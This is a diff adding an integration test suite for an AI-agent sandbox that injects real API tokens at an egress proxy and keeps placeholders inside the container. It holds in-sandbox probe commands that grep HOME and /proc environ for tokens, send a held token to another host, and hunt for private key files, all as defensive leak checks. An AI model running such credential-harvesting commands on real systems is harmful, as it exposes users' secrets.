@@ -1,0 +1,327 @@
+"""Inject mode (docs/CREDENTIALS.md, docs/EGRESS.md): the real CLIs hold placeholders, the wall
+terminates TLS for the row's API hosts and puts the real token on the wire.
+
+The upstream is the mock model server serving TLS with a certificate of a test CA
+(tests/mock_model/test_ca.py) in a network namespace this test creates (veth pair, 10.76.N.0/30):
+the seat config maps the vendors' API names to it (`hosts`), excepts its address (`private_ok`) and
+names the test CA (`upstream_ca`). Nothing leaves the machine. The mock logs the credential header
+values it received (--log-secrets: test tokens only), so the test sees the real token arrive; the
+agent's own tool command greps HOME and every /proc/*/environ inside the session for tokens and
+commits what it found, so the test sees what the box held."""
+import json
+import os
+import secrets
+import shutil
+import subprocess
+import sys
+import time
+import unittest
+
+from harness import ROOT, unavailable
+import test_agents_e2e as e2e
+
+sys.path.insert(0, str(ROOT / "tests" / "mock_model"))
+from test_ca import TestCa  # noqa: E402
+
+SERVER = ROOT / "tests" / "mock_model" / "server.py"
+NAMES = ["api.anthropic.com", "platform.claude.com", "api.openai.com", "chatgpt.com", "auth.openai.com"]
+
+
+class TlsUpstream:
+    """The mock model server on 443 of a veth address inside a namespace of the test's own."""
+
+    def __init__(self, tag, ca, command, final, also=None):
+        n = (os.getpid() * 11 + int(time.time() * 1000)) % 250 + 1
+        self.also = also  # (name, port): a second, plain allowed host on the same address
+        self.name, self.host_if, self.ns_if = "inj-%s-%d" % (tag, n), "ijh%d" % n, "ijn%d" % n
+        self.address, self.gateway = "10.76.%d.2" % n, "10.76.%d.1" % n
+        self.dir = ca.dir / ("up-" + tag)
+        self.dir.mkdir()
+        self.log = self.dir / "requests.jsonl"
+        self.cert, self.key = ca.leaf("mock-" + tag, NAMES)
+        self.ca_leaf = lambda name: ca.leaf("other-" + tag, [name])
+        self.command, self.final, self.proc = command, final, None
+
+    def ip(self, *args):
+        subprocess.run(["ip", *args], check=True, capture_output=True)
+
+    def start(self):
+        self.ip("netns", "add", self.name)
+        self.ip("-n", self.name, "link", "set", "lo", "up")
+        self.ip("link", "add", self.host_if, "type", "veth", "peer", "name", self.ns_if)
+        self.ip("link", "set", self.ns_if, "netns", self.name)
+        self.ip("addr", "add", self.gateway + "/30", "dev", self.host_if)
+        self.ip("link", "set", self.host_if, "up")
+        self.ip("-n", self.name, "addr", "add", self.address + "/30", "dev", self.ns_if)
+        self.ip("-n", self.name, "link", "set", self.ns_if, "up")
+        self.proc = subprocess.Popen(
+            ["ip", "netns", "exec", self.name, sys.executable, str(SERVER), "--host", self.address, "--port", "443",
+             "--tls-cert", str(self.cert), "--tls-key", str(self.key), "--log-secrets", "--command", self.command,
+             "--final", self.final, "--log", str(self.log), "--max-seconds", "300"],
+            stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True)
+        self.procs = [self.proc]
+        if self.also:
+            cert, key = self.ca_leaf(self.also[0])
+            self.procs.append(subprocess.Popen(
+                ["ip", "netns", "exec", self.name, sys.executable, str(SERVER), "--host", self.address, "--port",
+                 str(self.also[1]), "--tls-cert", str(cert), "--tls-key", str(key), "--log-secrets",
+                 "--log", str(self.dir / "other.jsonl"), "--max-seconds", "300"],
+                stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True))
+        for proc in self.procs:
+            first = proc.stdout.readline().strip()
+            if not first.startswith("PORT="):
+                raise RuntimeError("mock did not start: %r" % first)
+        return self
+
+    def stop(self):
+        for proc in getattr(self, "procs", [self.proc] if self.proc else []):
+            proc.terminate()
+            try:
+                proc.wait(timeout=10)
+            except subprocess.TimeoutExpired:
+                proc.kill()
+                proc.wait()
+            proc.stdout.close()
+        self.procs = []
+        subprocess.run(["ip", "link", "delete", self.host_if], capture_output=True)
+        subprocess.run(["ip", "netns", "delete", self.name], capture_output=True)
+
+    def requests(self, log=None):
+        log = log or self.log
+        return [json.loads(l) for l in log.read_text().splitlines() if l] if log.exists() else []
+
+    def seat_egress(self, ca, inject=True):
+        hosts = ", ".join('"%s" = "%s"' % (n, self.address) for n in NAMES + ([self.also[0]] if self.also else []))
+        return ('\n[egress]\nhosts = { %s }\nprivate_ok = ["%s/32"]\nupstream_ca = "%s"\n%s'
+                % (hosts, self.address, ca.cert, "" if inject else "inject = false\n"))
+
+
+def claude_real():
+    return {"claudeAiOauth": {"accessToken": "sk-ant-oat01-" + secrets.token_hex(24),
+                              "refreshToken": "sk-ant-ort01-" + secrets.token_hex(24),
+                              "expiresAt": int(time.time() * 1000) + 365 * 86400 * 1000,
+                              "scopes": ["user:inference", "user:profile"], "subscriptionType": "max"}}
+
+
+def codex_real():
+    return {"auth_mode": "apikey", "OPENAI_API_KEY": "sk-" + secrets.token_hex(24)}
+
+
+class ApiBase:
+    base_url = "https://api.openai.com"  # codex_argv appends /v1: the custom provider speaks to the real name
+
+
+# runtime, credential maker, the real secret in it, the header it arrives in at the mock, a pattern
+# of that secret's form for the scan inside, the CLI's env, argv, the API the mock logs.
+ROWS = [
+    dict(runtime="claude", content=claude_real, secret=lambda c: c["claudeAiOauth"]["accessToken"],
+         arrives=lambda r: r.get("authorization_value"), bearer=True, pattern="sk-ant-oat01-[A-Za-z0-9_-]+",
+         env=dict(CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC="1", DISABLE_AUTOUPDATER="1"),
+         argv=lambda prompt: e2e.claude_argv(prompt), api="messages", inject_host="api.anthropic.com"),
+    dict(runtime="codex", content=codex_real, secret=lambda c: c["OPENAI_API_KEY"],
+         arrives=lambda r: r.get("authorization_value"), bearer=True, pattern="sk-[A-Za-z0-9_-]{40,}",
+         env={}, argv=lambda prompt: e2e.codex_argv(ApiBase, prompt), api="responses", inject_host="api.openai.com"),
+]
+
+
+class InjectSeat(e2e.AgentSeat):
+    def setUp(self):
+        super().setUp()
+        if not shutil.which("openssl"):
+            unavailable(self, "openssl(1) is not installed (scripts/setup.sh installs it)")
+        self.ca = TestCa(self.seat.dir / "test-ca")
+        self.base_config = self.seat.config_file.read_text()
+
+    def session(self, row, tag, inject=True):
+        """One real CLI session through the wall; returns (record, upstream, real credential, worktree)."""
+        name = row["runtime"]
+        command = ("grep -rhoaE '%s' \"$HOME\" /proc/[0-9]*/environ 2>/dev/null | sort -u > scan.txt; "
+                   "echo hello-from-%s > note.txt && git add note.txt scan.txt && "
+                   "git -c user.email=agent@sandbox -c user.name=agent commit -q -m 'note from %s'"
+                   % (row["pattern"], name, name))
+        up = TlsUpstream(tag, self.ca, command, "Committed note.txt.")
+        try:
+            up.start()
+        except Exception as e:  # noqa: BLE001
+            up.stop()
+            unavailable(self, "cannot build the test's network namespace: %s" % e)
+        self.addCleanup(up.stop)
+        self.seat.write(self.base_config + up.seat_egress(self.ca, inject))
+        real = row["content"]()
+        credential = self.fake_credential("%s-%s.json" % (tag, name), real)
+        before = credential.read_bytes()
+        session = "inj-%s-%d" % (tag, os.getpid())
+        worktree = self.linked_worktree("inj-" + tag)
+        proc, record = self.seat.status(
+            "--id", session, "--runtime", name, "--credential", str(credential), "--workspace", str(worktree),
+            "--git-mirror", str(self.git_root / (worktree.name + "-repo") / ".git"), "--egress", "default",
+            "--timeout", "120s", "--", *row["argv"]("Add note.txt and commit it."),
+            timeout=e2e.RUN_TIMEOUT, env=self.seat.env(**row["env"]))
+        self.assertEqual(proc.returncode, 0, proc.stderr.decode(errors="replace"))
+        self.assertEqual(proc.stdout, b"Committed note.txt.\n")
+        self.assertCommitted(worktree, "note from " + name, "note.txt", "hello-from-%s\n" % name)
+        self.assertEqual(credential.read_bytes(), before, "the host's credential file changed")
+        self.assertNoContainer(session)
+        return record, up, row["secret"](real), worktree
+
+
+class RealClis(InjectSeat):
+    def test_claude_oauth_and_codex_api_key_hold_placeholders_and_the_upstream_gets_the_real_token(self):
+        for row in ROWS:
+            with self.subTest(runtime=row["runtime"]):
+                record, up, secret, worktree = self.session(row, row["runtime"][:3])
+                model = [r for r in up.requests() if r["api"] == row["api"]]
+                self.assertEqual([r["turn"] for r in model], [1, 2])
+                arrived = [row["arrives"](r) for r in model]
+                self.assertEqual(arrived, ["Bearer " + secret] * 2, "the real token did not reach the mock")
+                cred = record["credentials"][0]
+                self.assertEqual(cred["mode"], "inject", json.dumps(cred))
+                self.assertGreaterEqual(cred["injected"].get(row["inject_host"], 0), 2, json.dumps(cred))
+                self.assertEqual(record["credential_exposed"], [])
+                seen = (worktree / "scan.txt").read_text().split()
+                self.assertTrue(seen, "the scan inside found no token at all (not even the placeholder)")
+                self.assertNotIn(secret, seen)
+                self.assertTrue(all(len(s) == len(secret) for s in seen), seen)
+                print("\n%s: credentials %s; the mock received %r; the scan inside found %r"
+                      % (row["runtime"], json.dumps(cred), arrived[0][:24] + "…", seen), file=sys.stderr)
+
+
+class CopyMode(InjectSeat):
+    def test_only_the_seat_config_turns_inject_off_and_then_the_real_file_is_copied(self):
+        up = TlsUpstream("cpy", self.ca, "true", "Done.").start()
+        self.addCleanup(up.stop)
+        for inject in (True, False):
+            with self.subTest(inject=inject):
+                self.seat.write(self.base_config + up.seat_egress(self.ca, inject))
+                real = claude_real()
+                credential = self.fake_credential("cpy-%s.json" % inject, real)
+                session = "inj-cpy%d-%d" % (inject, os.getpid())
+                proc, record = self.seat.status(
+                    "--id", session, "--runtime", "claude", "--credential", str(credential), "--egress", "default",
+                    "--", "sh", "-c", "cat ~/.claude/.credentials.json", timeout=e2e.RUN_TIMEOUT)
+                self.assertEqual(proc.returncode, 0, proc.stderr.decode(errors="replace"))
+                held = json.loads(proc.stdout)["claudeAiOauth"]
+                secret = real["claudeAiOauth"]
+                self.assertEqual(record["credentials"][0]["mode"], "inject" if inject else "copy")
+                for key in ("accessToken", "refreshToken"):
+                    self.assertEqual(held[key] == secret[key], not inject, key)
+                    self.assertEqual(len(held[key]), len(secret[key]))
+                self.assertEqual((held["scopes"], held["expiresAt"]), (secret["scopes"], secret["expiresAt"]))
+                self.assertNoContainer(session)
+
+
+REQUEST = r"""p=$(grep -o 'sk-ant-oat01-[A-Za-z0-9_-]*' ~/.claude/.credentials.json | head -1)
+printf 'POST %s HTTP/1.1\r\nHost: api.anthropic.com\r\nAuthorization: Bearer %%s\r\nContent-Length: 0\r\nConnection: close\r\n\r\n' "$p" |
+  timeout 20 openssl s_client -quiet -proxy 127.0.0.1:3128 -connect %s:443 -servername %s \
+    -CAfile /sandbox/ca/session-ca.pem 2>/dev/null | head -1"""
+
+
+class Refusals(InjectSeat):
+    def test_a_key_minting_path_is_refused_under_a_case_variant_name_and_nothing_reaches_the_upstream(self):
+        up = TlsUpstream("ref", self.ca, "true", "Done.").start()
+        self.addCleanup(up.stop)
+        self.seat.write(self.base_config + up.seat_egress(self.ca))
+        real = claude_real()
+        credential = self.fake_credential("ref.json", real)
+        for path, name in (("/api/oauth/claude_cli/create_api_key", "API.Anthropic.COM."),
+                           ("/api/oauth/claude_cli/create_api_key", "api.anthropic.com"), ("/v1/../api/oauth/x", "api.anthropic.com")):
+            with self.subTest(path=path, name=name):
+                session = "inj-ref-%d-%d" % (len(name), os.getpid())
+                proc, record = self.seat.status(
+                    "--id", session, "--runtime", "claude", "--credential", str(credential), "--egress", "default",
+                    "--", "sh", "-c", REQUEST % (path, name, name.lower().rstrip(".")), timeout=e2e.RUN_TIMEOUT)
+                self.assertEqual(proc.returncode, 0, proc.stderr.decode(errors="replace"))
+                self.assertRegex(proc.stdout.decode(), r"^HTTP/1\.1 (403|400)")
+                self.assertNotIn(real["claudeAiOauth"]["accessToken"].encode(), proc.stdout + proc.stderr)
+                refused = [r for r in record["egress"]["refused"] if r["host"] == "api.anthropic.com"]
+                self.assertTrue(refused, json.dumps(record["egress"]))
+                self.assertEqual(record["credentials"][0]["injected"], {}, json.dumps(record["credentials"]))
+                self.assertNoContainer(session)
+        self.assertEqual([r for r in up.requests() if r.get("path", "").startswith("/api/oauth/claude_cli")], [])
+        print("\nrefusals on record: %s" % json.dumps(record["egress"]["refused"]), file=sys.stderr)
+
+
+OTHER = r"""p=$(grep -o 'sk-ant-oat01-[A-Za-z0-9_-]*' ~/.claude/.credentials.json | head -1)
+printf 'GET /v1/models HTTP/1.1\r\nHost: other.test\r\nAuthorization: Bearer %s\r\nConnection: close\r\n\r\n' "$p" |
+  timeout 20 openssl s_client -proxy 127.0.0.1:3128 -connect other.test:8443 -servername other.test \
+    -CAfile /sandbox/ca/session-ca.pem 2>&1 | grep -E '^(issuer=|Verify return code|HTTP/1)'
+grep -rlsI -- '-----BEGIN .*PRIVATE KEY' / --exclude-dir=proc --exclude-dir=sys --exclude-dir=usr 2>/dev/null | head -5"""
+
+TOKEN = r"""b='{"grant_type":"refresh_token","refresh_token":"sk-ant-ort01-placeholder"}'
+{ printf 'POST /v1/oauth/token HTTP/1.1\r\nHost: platform.claude.com\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s' ${#b} "$b"; } |
+  timeout 6 openssl s_client -quiet -proxy 127.0.0.1:3128 -connect platform.claude.com:443 -servername platform.claude.com \
+    -CAfile /sandbox/ca/session-ca.pem 2>/dev/null
+true  # -quiet waits for the wall to close the kept-alive connection: timeout(1) ends it"""
+
+
+class BlindTunnelAndSessionCa(InjectSeat):
+    def test_an_allowed_other_host_gets_the_placeholder_its_own_cert_and_the_ca_key_is_nowhere(self):
+        up = TlsUpstream("bli", self.ca, "true", "Done.", also=("other.test", 8443)).start()
+        self.addCleanup(up.stop)
+        self.seat.write(self.base_config + up.seat_egress(self.ca))
+        real = claude_real()
+        credential = self.fake_credential("bli.json", real)
+        session = "inj-bli-%d" % os.getpid()
+        marker = self.seat.dir / "marker"
+        marker.write_text("")
+        proc, record = self.seat.status(
+            "--id", session, "--runtime", "claude", "--credential", str(credential), "--egress", "default",
+            "--egress", "other.test:8443", "--", "sh", "-c", OTHER, timeout=e2e.RUN_TIMEOUT)
+        self.assertEqual(proc.returncode, 0, proc.stderr.decode(errors="replace"))
+        out = proc.stdout.decode()
+        # the session CA cannot verify the other host's own certificate: the tunnel was blind
+        self.assertIn("issuer=CN = agent-sandbox test upstream CA", out)
+        self.assertNotIn("Verify return code: 0", out)
+        seen = [r.get("authorization_value") for r in up.requests(up.dir / "other.jsonl")]
+        self.assertEqual(len(seen), 1, out)
+        self.assertNotEqual(seen[0], "Bearer " + real["claudeAiOauth"]["accessToken"])
+        self.assertRegex(seen[0], r"^Bearer sk-ant-oat01-")
+        self.assertEqual(record["credentials"][0]["mode"], "inject")
+        self.assertNotIn("other.test", record["credentials"][0]["injected"])
+        self.assertNotIn("PRIVATE KEY", out.replace("BEGIN", ""), "a private key file inside the container")
+        decoys = "/sandbox/home/.ssh/"  # the tripwire's decoy keys, fake by design
+        self.assertEqual([l for l in out.splitlines() if l.startswith("/") and not l.startswith(decoys)], [],
+                         "a private key file inside the container")
+        self.assertNoContainer(session)
+        # on the seat: no key written anywhere a process of the session could have put it
+        found = subprocess.run(["find", "/tmp", "/run", "/var/tmp", "/root", "-xdev", "-type", "f", "-newer", str(marker),
+                                "-size", "-64k", "-not", "-path", str(self.ca.dir) + "/*"], capture_output=True, text=True)
+        keys = [f for f in found.stdout.split() if b"PRIVATE KEY-----" in self.head(f)]
+        self.assertEqual(keys, [], "a private key written during the session")
+
+    @staticmethod
+    def head(path):
+        try:
+            with open(path, "rb") as f:
+                return f.read(65536)
+        except OSError:
+            return b""
+
+
+class RefreshAnswered(InjectSeat):
+    def test_the_token_endpoint_is_answered_by_the_wall_with_placeholders_and_nothing_is_forwarded(self):
+        up = TlsUpstream("tok", self.ca, "true", "Done.").start()
+        self.addCleanup(up.stop)
+        self.seat.write(self.base_config + up.seat_egress(self.ca))
+        real = claude_real()
+        credential = self.fake_credential("tok.json", real)
+        before = credential.read_bytes()
+        session = "inj-tok-%d" % os.getpid()
+        proc, record = self.seat.status(
+            "--id", session, "--runtime", "claude", "--credential", str(credential), "--egress", "default",
+            "--", "sh", "-c", TOKEN, timeout=e2e.RUN_TIMEOUT)
+        self.assertEqual(proc.returncode, 0, proc.stderr.decode(errors="replace"))
+        head, _, body = proc.stdout.decode().partition("\r\n\r\n")
+        self.assertRegex(head, r"^HTTP/1\.1 200")
+        answer = json.loads(body)
+        for key in ("access_token", "refresh_token"):
+            self.assertNotIn(answer[key], (real["claudeAiOauth"]["accessToken"], real["claudeAiOauth"]["refreshToken"]))
+        self.assertTrue(answer["access_token"].startswith("sk-ant-oat01-"), answer)
+        self.assertEqual(record["credentials"][0]["refreshes_answered"], 1)
+        self.assertEqual(up.requests(), [], "the token endpoint was reached")
+        self.assertEqual(credential.read_bytes(), before)
+        self.assertNoContainer(session)
+
+
+if __name__ == "__main__":
+    unittest.main(verbosity=2)
